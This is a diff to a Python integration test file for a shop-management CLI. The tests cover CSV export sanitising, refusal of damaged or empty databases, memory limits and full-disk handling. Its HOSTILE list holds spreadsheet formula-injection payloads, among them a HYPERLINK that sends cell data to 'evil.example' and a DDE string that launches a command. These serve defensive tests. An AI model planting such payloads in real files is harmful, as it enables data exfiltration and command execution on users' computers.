@@ -20,7 +20,7 @@ from tests.integration.cli_support import ROOT, Cli
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 HOSTILE = [
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "+1+cmd|' /C calc'!A0",
     "-2+3",
     "@SUM(A1:A9)",
@@ -67,7 +67,9 @@ def test_exports_neutralise_cells_a_spreadsheet_would_run(shop: Cli, tmp_path: P
             [HOSTILE[n % len(HOSTILE)], HOSTILE[(n + 1) % len(HOSTILE)], order],
         )
     for n, (product,) in enumerate(db.execute("SELECT id FROM products").fetchall()):
-        db.execute("UPDATE products SET title = ? WHERE id = ?", [HOSTILE[n % len(HOSTILE)], product])
+        db.execute(
+            "UPDATE products SET title = ? WHERE id = ?", [HOSTILE[n % len(HOSTILE)], product]
+        )
     db.execute("UPDATE skus SET name = ?", [HOSTILE[0]])
     db.commit()
     db.close()
@@ -103,7 +105,12 @@ def test_a_damaged_database_is_refused_with_what_to_do(shop: Cli, tmp_path: Path
         for offset in range(size // 2 // page * page, size // 2 + 6 * page, page):
             handle.seek(offset + 100)
             handle.write(os.urandom(page - 200))
-    for args in (("sync", "--once"), ("status",), ("export", "orders", "--out", str(tmp_path / "o.csv")), ("stock", "set", "X", "1")):
+    for args in (
+        ("sync", "--once"),
+        ("status",),
+        ("export", "orders", "--out", str(tmp_path / "o.csv")),
+        ("stock", "set", "X", "1"),
+    ):
         proc = clean_run(shop, *args, home=home)
         assert proc.returncode != 0, f"{args} exited 0 on a damaged database: {proc.stdout}"
         assert "damaged" in proc.stderr and "shopdesk restore" in proc.stderr, (args, proc.stderr)
@@ -115,7 +122,11 @@ def test_an_empty_database_file_is_refused_with_what_to_do(shop: Cli, tmp_path: 
     (home / "shopdesk.db").write_bytes(b"")
     for name in ("shopdesk.db-wal", "shopdesk.db-shm"):
         (home / name).unlink(missing_ok=True)
-    for args in (("status",), ("sync", "--once"), ("export", "stock", "--out", str(tmp_path / "s.csv"))):
+    for args in (
+        ("status",),
+        ("sync", "--once"),
+        ("export", "stock", "--out", str(tmp_path / "s.csv")),
+    ):
         proc = clean_run(shop, *args, home=home)
         assert proc.returncode != 0, args
         assert "empty" in proc.stderr and "shopdesk restore" in proc.stderr, (args, proc.stderr)
@@ -149,8 +160,11 @@ def test_a_huge_stock_csv_is_refused_in_bounded_memory(shop: Cli, tmp_path: Path
             handle.write(f"NO-SUCH-SKU-{n:08d},{n % 50}\n")
     assert big.stat().st_size > 40_000_000
     env = {**shop.env, "SHOPDESK_HOME": str(home)}
-    before = sqlite3.connect(home / "shopdesk.db").execute(
-        "SELECT count(*) FROM stock_movements").fetchone()[0]
+    before = (
+        sqlite3.connect(home / "shopdesk.db")
+        .execute("SELECT count(*) FROM stock_movements")
+        .fetchone()[0]
+    )
     proc, peak = _peak_rss_mb(shop.argv("stock", "import", str(big)), env)
     assert peak < 250, f"peak memory {peak:.0f} MB"
     assert proc.returncode == 2, proc.stderr[-500:]
@@ -158,8 +172,11 @@ def test_a_huge_stock_csv_is_refused_in_bounded_memory(shop: Cli, tmp_path: Path
     lines = proc.stderr.strip().splitlines()
     assert len(lines) <= 60, f"{len(lines)} lines of problems printed"
     assert "2,000,000 problems" in proc.stderr and "more" in proc.stderr
-    after = sqlite3.connect(home / "shopdesk.db").execute(
-        "SELECT count(*) FROM stock_movements").fetchone()[0]
+    after = (
+        sqlite3.connect(home / "shopdesk.db")
+        .execute("SELECT count(*) FROM stock_movements")
+        .fetchone()[0]
+    )
     assert after == before
 
 
@@ -182,27 +199,45 @@ def test_a_full_disk_is_one_clear_line_and_nothing_half_written(shop: Cli, tmp_p
     env = {**shop.env, "SHOPDESK_HOME": str(home)}
     out = tmp_path / "orders.csv"
     export = subprocess.run(
-        shop.argv("export", "orders", "--out", str(out)), env=env, cwd=ROOT, capture_output=True,
-        text=True, timeout=120, preexec_fn=_limited(LIMIT),
+        shop.argv("export", "orders", "--out", str(out)),
+        env=env,
+        cwd=ROOT,
+        capture_output=True,
+        text=True,
+        timeout=120,
+        preexec_fn=_limited(LIMIT),
     )
     assert export.returncode == 1, export.stderr
     assert "Traceback" not in export.stderr and "disk" in export.stderr.lower()
     assert not out.exists() and not list(tmp_path.glob("orders.csv*")), "half a file was left"
 
     db = sqlite3.connect(home / "shopdesk.db")
-    db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
     movements = db.execute("SELECT count(*) FROM stock_movements").fetchone()[0]
-    codes = [r[0] for r in db.execute("SELECT DISTINCT seller_sku FROM skus WHERE seller_sku != ''")]
-    db.close()
+    codes = [
+        r[0] for r in db.execute("SELECT DISTINCT seller_sku FROM skus WHERE seller_sku != ''")
+    ]
+    # Frames nobody checkpoints yet: the edit's own must go after them, past the limit.
+    db.execute("PRAGMA wal_autocheckpoint = 0")
+    db.execute("UPDATE orders SET raw = raw || ' '")
+    db.commit()
+    assert (home / "shopdesk.db-wal").stat().st_size > LIMIT
     counts = tmp_path / "counts.csv"
-    counts.write_text("seller_sku,on_hand\n" + "".join(f"{c},{n + 70}\n" for n, c in enumerate(codes)))
+    counts.write_text(
+        "seller_sku,on_hand\n" + "".join(f"{c},{n + 70}\n" for n, c in enumerate(codes))
+    )
     edit = subprocess.run(
-        shop.argv("stock", "import", str(counts)), env=env, cwd=ROOT, capture_output=True,
-        text=True, timeout=120, preexec_fn=_limited(LIMIT),
+        shop.argv("stock", "import", str(counts)),
+        env=env,
+        cwd=ROOT,
+        capture_output=True,
+        text=True,
+        timeout=120,
+        preexec_fn=_limited(LIMIT),
     )
     assert edit.returncode == 1, edit.stderr
     assert "Traceback" not in edit.stderr and "disk" in edit.stderr.lower()
     assert len(edit.stderr.strip().splitlines()) == 1, edit.stderr
+    db.close()
     db = sqlite3.connect(home / "shopdesk.db")
     assert db.execute("PRAGMA quick_check").fetchone()[0] == "ok"
     assert db.execute("SELECT count(*) FROM stock_movements").fetchone()[0] == movements
